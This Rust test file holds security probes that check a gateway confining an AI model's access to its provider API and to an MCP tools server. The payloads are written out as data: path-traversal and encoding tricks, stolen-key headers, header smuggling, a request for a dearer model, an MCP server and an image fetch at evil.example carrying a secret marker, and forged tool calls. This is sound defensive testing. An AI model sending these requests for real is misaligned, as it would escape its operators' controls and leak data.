//! What is asked of the doors that exist: the model's and the tools'.

use crate::kit::{Probe, Seen, each, probe};
use crate::net::{
    MODEL, PROVIDER, SOMEWHERE, answered, denied, exchange, model_request, nowhere, request, status, told, tools_request,
};

const PATH: &str = "403 model.path";
const REFUSED: &str = "refused";
const TOOL: &str = "nothing is called";
/// What no answered request may carry; the outside looks for it at the provider.
const MARK: &str = "hexward-attack";
const STOLEN: &str = "x-api-key: sk-ant-api03-hexward-stolen\r\nauthorization: Bearer sk-ant-hexward-stolen\r\n";

pub const PROBES: &[Probe] = &[
    probe("requests.own_key_files", "upload files to the provider with a key of its own", PATH, |_| at("POST", "/v1/files")),
    probe("requests.own_key_admin", "ask the provider's administration", PATH, |_| {
        each(
            &[
                "/v1/organizations/me",
                "/v1/organizations/api_keys",
                "/v1/models",
                "/v1/messages/batches",
                "/v1/complete",
                "/v1/skills",
                "/",
            ],
            |path| at("GET", path),
        )
    }),
    probe("requests.path_tricks", "reach another path by another spelling", REFUSED, |_| {
        let paths = [
            "/v1/messages/../files",
            "/v1/messages/%2e%2e/files",
            "//v1/files",
            "/v1/messages/",
            "/V1/files",
            "/v1/messages;/../files",
            "/v1/messages%00/files",
            "/v1%2ffiles",
            "/v1/./files",
        ];
        each(&paths, |path| nowhere(exchange(SOMEWHERE, request("POST", path, MODEL, STOLEN, MARK).as_bytes())))
    }),
    probe("requests.methods", "other methods on the path that exists", REFUSED, |_| {
        each(&["GET", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "MESSAGES"], |method| {
            nowhere(exchange(SOMEWHERE, request(method, "/v1/messages", MODEL, STOLEN, "").as_bytes()))
        })
    }),
    probe(
        "requests.stolen_key",
        "use a stolen key at the provider's name",
        "answered with the gateway's key, the stolen one stays behind",
        |_| answered(exchange("160.79.104.10:80", model_request(PROVIDER, STOLEN, "with-a-stolen-key").as_bytes()), "\"role\""),
    ),
    probe("requests.hop_headers", "headers that would steer the way to the provider", "answered, and they stay behind", |_| {
        let headers = "X-Forwarded-For: 1.2.3.4\r\nProxy-Authorization: Basic eDp5\r\nCookie: session=hexward-cookie\r\nAnthropic-Dangerous-Direct-Browser-Access: true\r\n";
        answered(exchange(SOMEWHERE, model_request(MODEL, headers, "with-odd-headers").as_bytes()), "\"role\"")
    }),
    probe("requests.hop_host", "take a header away from the gateway (Connection: x-api-key)", "answered all the same", |_| {
        let asked =
            model_request(MODEL, "", "with-a-connection-list").replace("Connection: close", "Connection: close, x-api-key, host");
        answered(exchange(SOMEWHERE, asked.as_bytes()), "\"role\"")
    }),
    probe("requests.other_model", "ask for a dearer model", REFUSED, |_| {
        body(r#"{"model":"claude-opus-5","max_tokens":16,"messages":[{"role":"user","content":"hexward-attack"}]}"#)
    }),
    probe("requests.much_output", "ask for more output than allowed", REFUSED, |_| {
        body(r#"{"model":"claude-sonnet-5-5","max_tokens":900000,"messages":[{"role":"user","content":"hexward-attack"}]}"#)
    }),
    probe("requests.server_tools", "have the provider fetch, search or run something", REFUSED, |_| {
        each(&["web_search_20250305", "web_fetch_20250910", "code_execution_20250825"], |tool| {
            body(&format!(
                r#"{{"model":"claude-sonnet-5-5","max_tokens":16,"messages":[{{"role":"user","content":"hexward-attack"}}],"tools":[{{"type":"{tool}","name":"x"}}]}}"#
            ))
        })
    }),
    probe("requests.foreign_server", "have the provider call a tool server elsewhere", REFUSED, |_| {
        body(
            r#"{"model":"claude-sonnet-5-5","max_tokens":16,"messages":[{"role":"user","content":"hexward-attack"}],"mcp_servers":[{"type":"url","url":"https://evil.example","name":"x"}]}"#,
        )
    }),
    probe("requests.image_by_address", "have the provider fetch an image with a secret in its address", REFUSED, |_| {
        body(
            r#"{"model":"claude-sonnet-5-5","max_tokens":16,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?hexward-attack"}}]}]}"#,
        )
    }),
    probe("requests.two_readings", "one key twice, read in two ways", REFUSED, |_| {
        body(
            r#"{"model":"claude-sonnet-5-5","model":"claude-opus-5","max_tokens":16,"messages":[{"role":"user","content":"hexward-attack"}]}"#,
        )
    }),
    probe("requests.no_json", "a body that is no JSON", REFUSED, |_| body("hexward-attack")),
    probe("requests.tool_uninvited", "call a tool that the model did not ask for", TOOL, |_| {
        tool("", r#"{"name":"addItem","arguments":{"title":"Forged"}}"#)
    }),
    probe("requests.tool_invented", "the same with an invented id", TOOL, |_| {
        tool("", r#"{"name":"getCurrentUser","arguments":{},"_meta":{"claudecode/toolUseId":"toolu_invented"}}"#)
    }),
    probe("requests.tool_unknown", "call a tool that the manifest does not list", TOOL, |_| {
        tool("", r#"{"name":"dropTables","arguments":{},"_meta":{"claudecode/toolUseId":"toolu_invented"}}"#)
    }),
    probe("requests.tool_stolen_key", "the tools' door with a stolen key and another user's name", TOOL, |_| {
        let headers = format!("{STOLEN}x-hexward-user: 00000000-0000-7000-8000-000000000000\r\nmcp-session-id: stolen\r\n");
        tool(&headers, r#"{"name":"getCurrentUser","arguments":{}}"#)
    }),
    probe("requests.tool_batch", "several calls in one message", TOOL, |_| {
        let body = r#"[{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"getCurrentUser","arguments":{}}}]"#;
        not_called(exchange(
            "198.18.0.11:80",
            request(
                "POST",
                "/mcp",
                "tools.hexward.internal",
                "content-type: application/json\r\naccept: application/json, text/event-stream\r\n",
                body,
            )
            .as_bytes(),
        ))
    }),
    probe("requests.tool_paths", "other paths of the tools' server", REFUSED, |_| {
        each(&["/", "/admin", "/mcp/../admin", "/.well-known/oauth-protected-resource", "/sse"], |path| {
            nowhere(exchange("198.18.0.11:80", request("GET", path, "tools.hexward.internal", STOLEN, "").as_bytes()))
        })
    }),
];

fn at(method: &str, path: &str) -> Seen {
    denied(exchange("160.79.104.10:80", request(method, path, PROVIDER, STOLEN, MARK).as_bytes()), "model.path")
}

fn body(body: &str) -> Seen {
    let headers = "content-type: application/json\r\nanthropic-version: 2023-06-01\r\n";
    nowhere(exchange(SOMEWHERE, request("POST", "/v1/messages", MODEL, headers, body).as_bytes()))
}

fn tool(headers: &str, params: &str) -> Seen {
    not_called(exchange("198.18.0.11:80", tools_request(headers, "tools/call", params).as_bytes()))
}

/// A refusal of a tool is an answer in the protocol. What must not be in it is a result.
fn not_called(result: std::io::Result<Vec<u8>>) -> Seen {
    match result {
        Err(error) => crate::kit::seen(true, crate::kit::says(&error)),
        Ok(answer) => {
            let text = String::from_utf8_lossy(&answer);
            let code = text.split("hexward/reason\":\"").nth(1).and_then(|rest| rest.split('"').next()).unwrap_or_default();
            let refused = status(&answer) >= 400 || text.contains("\"isError\":true") || text.contains("\"error\"");
            crate::kit::seen(refused && !text.contains("structuredContent"), format!("{} {code}", told(&answer)))
        }
    }
}
